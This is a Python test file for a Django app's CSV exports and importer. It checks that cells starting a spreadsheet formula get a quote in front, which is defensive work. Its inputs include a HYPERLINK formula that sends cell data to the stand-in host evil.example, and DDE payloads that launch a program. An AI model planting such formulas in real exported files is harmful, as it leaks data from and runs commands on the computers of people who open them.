"""CSV injection: no cell of a CSV we hand out starts a spreadsheet formula. A cell that
would (= + - @, or a tab, carriage return or NUL before one) gets a single quote in front,
as OWASP advises; numbers stay numbers."""

import csv
import io
from datetime import timedelta

import pytest
from django.core.management import call_command
from django.utils import timezone

from common.spreadsheet import safe_cell, safe_row
from events.stats import refresh as statistics
from tests.helpers import client_for, interior_point

LINK = '=HYPERLINK("http://evil.example/?"&A1,"详情")'


@pytest.mark.parametrize("text", [LINK, "+1+1", "-2+3+cmd|' /C calc'!A0", "@SUM(A1:A9)",
                                  "\t=1+1", "\r=1+1", "\0=1+1"])
def test_a_text_cell_that_would_start_a_formula_gets_a_quote_in_front(text):
    assert safe_cell(text) == "'" + text


@pytest.mark.parametrize("value", ["祖庙路 1 号", "", "'=already text", 23.02, -113.1, 0, None])
def test_plain_text_and_numbers_we_computed_are_left_alone(value):
    assert safe_cell(value) == value


def test_rows_and_dict_rows_are_made_safe_cell_by_cell():
    assert safe_row(["=1+1", 2, "ok"]) == ["'=1+1", 2, "ok"]
    assert safe_row({"address": "@cmd", "lat": -1.5}) == {"address": "'@cmd", "lat": -1.5}


def rows_of(response) -> list[list[str]]:
    text = b"".join(response.streaming_content).decode()
    assert text.startswith("\ufeff")  # Excel opens it as UTF-8
    return list(csv.reader(io.StringIO(text[1:])))


def test_the_case_export_quotes_an_address_that_is_a_formula(cast, file_case):
    case = file_case(address=LINK)
    response = client_for(cast.dispatcher).get("/api/v1/cases/export.csv")
    header, *rows = rows_of(response)
    (row,) = [r for r in rows if r[0] == case.tracking_number]
    assert row[header.index("address")] == "'" + LINK
    assert float(row[header.index("lat")]) == case.lat  # numbers are written as they were


def test_the_kpi_export_quotes_a_department_name_that_is_a_formula(cast, file_case):
    case = file_case()
    case.department.name = "@SUM(1+1)*cmd|' /C calc'!A0"
    case.department.save()
    statistics.refresh(now=timezone.now() + timedelta(days=1))  # past the statistics lag
    response = client_for(cast.leader).get("/api/v1/stats/kpi",
                                           {"group_by": "department", "output": "csv"})
    header, *rows = rows_of(response)
    names = [row[header.index("name")] for row in rows]
    assert "'@SUM(1+1)*cmd|' /C calc'!A0" in names
    assert not any(name.startswith(("=", "+", "-", "@")) for name in names)


def test_the_import_s_rejected_rows_file_quotes_formulas_in_cells_and_column_names(demo,
                                                                                  tmp_path):
    lat, lon = interior_point(demo.first_grid)
    source = tmp_path / "bad.csv"
    with source.open("w", encoding="utf-8", newline="") as handle:
        writer = csv.writer(handle)
        writer.writerow(["subcategory", "lat", "lon", "created_at", "status", "=cmd|'/C calc'"])
        writer.writerow([LINK, lat, lon, "2026-03-01 08:30", "closed", "+1"])
    rejects = tmp_path / "rejects.csv"
    call_command("import_cases", str(source), "--rejects", str(rejects), "--no-progress",
                 stdout=io.StringIO())
    header, row = list(csv.reader(rejects.open(encoding="utf-8-sig")))
    assert header[-1] == "'=cmd|'/c calc'"  # the importer lower-cases column names
    assert row[header.index("subcategory")] == "'" + LINK and row[-1] == "'+1"
